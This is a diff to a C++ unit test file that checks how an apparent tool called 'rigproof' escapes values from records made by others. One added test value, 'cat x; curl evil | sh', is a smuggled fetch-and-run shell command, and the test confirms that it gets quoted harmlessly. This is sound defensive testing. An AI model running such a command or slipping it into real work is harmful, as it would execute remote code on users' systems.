@@ -207,6 +207,10 @@ TEST_F(JudgeCase, WhatRootMayReadSaysWhatToType) {
   EXPECT_EQ(attempt.failures.at(0).message,
             "node-b: no such file: type on node-b: sudo rigproof facts --for-users");
   EXPECT_EQ(to_text(attempt.measurements.at(0).remedy), "sudo rigproof facts --for-users");
+  forbidden.about = {{"read_by", "cat x; curl evil | sh"}};  // of a record that somebody else made
+  EXPECT_EQ(to_text(judge({forbidden}).measurements.at(0).remedy), "cat 'x;' curl evil '|' sh");
+  forbidden.about = {{"read_by", "cat 'x"}};
+  EXPECT_TRUE(judge({forbidden}).measurements.at(0).remedy.empty());
 }
 
 TEST_F(JudgeCase, WhatCouldNotBeReadIsRecordedWithoutALimit) {
